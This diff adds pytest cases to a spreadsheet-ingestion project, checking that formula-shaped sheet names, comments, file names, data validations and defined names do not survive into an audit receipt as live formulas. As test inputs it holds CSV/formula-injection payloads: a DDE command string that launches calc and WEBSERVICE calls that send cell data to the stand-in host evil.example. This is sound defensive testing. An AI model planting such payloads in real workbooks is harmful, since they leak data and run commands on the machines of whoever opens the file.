@@ -10,6 +10,7 @@ import pytest
 from openpyxl.comments import Comment
 from openpyxl.formatting.rule import FormulaRule
 from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from contracts import Finding, catalogue, contracts, finding
 from ingestion.conform.table import conform_table
@@ -151,6 +152,20 @@ def test_text_of_a_csv_never_becomes_a_formula(tmp_path):
     assert_no_formula(seen, {f"A{number}": text.strip() for number, text in enumerate(DANGEROUS, start=2) if not text.startswith("\t")})
 
 
+def test_names_of_files_and_sheets_and_comments_stay_text(tmp_path):
+    """A sheet called like a formula, a comment with one, a file name with one: what the receipt writes of them is text and plain links."""
+    book = openpyxl.Workbook()
+    book.active.title = "=1+1|cmd'!A0"[:31].replace("|", "").replace("'", "’")
+    book.active["A1"] = 5
+    book.active["A1"].comment = Comment("=WEBSERVICE(1)", "=2+2")
+    book.save(tmp_path / "=HYPERLINK(1).xlsx")
+    seen = receipt(tmp_path, tmp_path / "=HYPERLINK(1).xlsx", [fault("A1", book.active.title)])
+    assert_no_formula(seen, {})
+    links = [cell.hyperlink for row in seen["审核结果"].iter_rows() for cell in row if cell.hyperlink]
+    assert [(link.target, link.location) for link in links] == [(None, f"'{book.active.title}'!A1")]
+    assert "=WEBSERVICE(1)" in seen.worksheets[1]["A1"].comment.text
+
+
 def test_a_computed_formula_leaves_its_value(tmp_path):
     original = SAMPLES / "clean" / "ecology" / "上党区2023年生态状况年报.xlsx"
     source = openpyxl.load_workbook(original)
@@ -168,9 +183,15 @@ def test_links_connections_and_conditional_formats_are_left_out(tmp_path):
     sheet["A1"].hyperlink = "file://evil.example/share"
     sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=["LEN(A1)>0"]))
     book.defined_names["evil"] = DefinedName("evil", attr_text="[1]Sheet1!$A$1")
+    book.defined_names["worse"] = DefinedName("worse", attr_text='WEBSERVICE("//evil.example/"&Sheet!$A$1)')
     book.defined_names["good"] = DefinedName("good", attr_text="Sheet!$A$1")
+    for formula in ('WEBSERVICE("//evil.example")', "cmd|'/C calc'!A0", "[1]Sheet1!$A$1", '"是,否"', "Sheet!$A$1:$A$9"):
+        sheet.add_data_validation(DataValidation(type="list", formula1=formula, sqref="B2"))
+    days = DataValidation(type="date", operator="between", formula1="DATE(1990,1,1)", formula2="DATE(2100,12,31)", sqref="C2")
+    sheet.add_data_validation(days)
     book.save(tmp_path / "a.xlsx")
     seen = receipt(tmp_path, tmp_path / "a.xlsx", [])
+    assert [one.formula1 for one in seen["Sheet"].data_validations.dataValidation] == ['"是,否"', "Sheet!$A$1:$A$9", "DATE(1990,1,1)"]
     assert seen["Sheet"]["A1"].hyperlink is None and len(seen["Sheet"].conditional_formatting) == 0
     assert list(seen.defined_names) == ["good"]
 
